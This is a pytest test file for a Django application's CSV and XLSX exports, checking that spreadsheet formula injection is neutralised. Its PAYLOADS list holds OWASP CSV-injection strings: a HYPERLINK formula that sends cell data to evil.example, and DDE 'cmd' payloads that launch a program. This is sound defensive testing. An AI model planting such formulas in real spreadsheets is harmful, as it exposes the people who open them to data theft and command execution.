"""Issue 9.4: no CSV or XLSX we write lets a spreadsheet run a cell as a formula.

The payloads are OWASP's "CSV Injection" examples, with each leading character
OWASP lists (``=``, ``+``, ``-``, ``@``, tab, carriage return) and the
full-width forms some spreadsheets accept.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sangkien.core.spreadsheet import safe_cell
from sangkien.roles.models import Role
from tests.duplicates.conftest import indexed
from tests.factories import InitiativeFactory, UserFactory, grant

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
    "=cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_leading_trigger_is_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Sổ tay điện tử", "1.500.000", "0912 345 678", 15, -2, 3.5, None, ""])
def test_plain_values_are_left_alone(value):
    assert safe_cell(value) == value


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    risky = [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r", "＝", "＠"}]
    assert not risky, f"cells a spreadsheet would run: {risky}"


@pytest.mark.django_db
def test_initiatives_csv_and_xlsx_exports_are_inert(client, tree, phase):
    for payload in PAYLOADS:
        InitiativeFactory(phase=phase, unit=tree["g11"], title=payload)
    officer = UserFactory()
    grant(officer, tree["d1"], Role.REVIEWER)
    client.force_login(officer)
    base = reverse("reports:export", args=[phase.programme.slug, tree["d1"].code])
    text = b"".join(client.get(base + "?tai=initiatives.csv").streaming_content).decode("utf-8-sig")
    cells = _cells(text)
    _assert_inert(cells)
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    data = b"".join(client.get(base + "?tai=initiatives.xlsx").streaming_content)
    sheet = load_workbook(io.BytesIO(data)).active
    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in titles), "text must be written as text, never a formula"
    _assert_inert([cell.value for cell in titles])


@pytest.mark.django_db
def test_duplicates_report_csv_is_inert(client, tree, phase):
    for payload in PAYLOADS[:5]:
        for unit in ("g11", "g12"):  # a pair of copies, so each payload is in a cluster
            indexed(phase=phase, unit=tree[unit], title=payload,
                    description=f"<p>{payload} — mô tả giống nhau của sáng kiến thử nghiệm</p>")
    committee = UserFactory()
    grant(committee, tree["root"], Role.ORGANISING_COMMITTEE)
    client.force_login(committee)
    response = client.get(reverse("duplicates:report", args=[phase.programme.slug]) + "?format=csv")
    cells = _cells(response.content.decode("utf-8-sig"))
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")" in cells
    _assert_inert(cells)
